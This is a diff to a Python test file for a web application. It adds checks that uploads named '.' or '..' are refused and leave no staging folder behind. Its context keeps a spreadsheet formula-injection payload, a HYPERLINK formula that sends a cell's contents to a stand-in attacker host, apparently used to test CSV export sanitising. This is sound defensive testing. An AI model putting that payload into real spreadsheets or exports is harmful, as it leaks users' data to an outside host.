@@ -7,7 +7,9 @@ from __future__ import annotations
 import csv
 import dataclasses
 import io
+import tempfile
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 import sqlalchemy as sa
@@ -17,6 +19,7 @@ from fastapi.testclient import TestClient
 from shidian.platform.db.schema import audit_events, login_throttle
 from shidian.web.middleware import LanguageAndHeaders
 from tests.web.conftest import csrf_of
+from tests.web.test_personal_data import private_tmp, staged  # noqa: F401  (a fixture)
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
@@ -81,7 +84,9 @@ def test_over_long_user_and_display_names(web_app, client_for, forget_throttle):
     assert "longdisplay" not in names and "u" * 65 not in names
 
 
+@pytest.mark.usefixtures("private_tmp")
 def test_an_insurance_upload_named_dot_or_dot_dot_is_refused(web_app, client_for):
+    """… and leaves no staging folder, in the data directory or the system's temporary one."""
     officer = client_for("officer")
     for name in (".", ".."):
         answer = officer.post(
@@ -91,6 +96,7 @@ def test_an_insurance_upload_named_dot_or_dot_dot_is_refused(web_app, client_for
             follow_redirects=False,
         )
         _chinese_4xx(answer)
+    assert staged(web_app) == [] and list(Path(tempfile.gettempdir()).iterdir()) == []
 
 
 # Finding 9.
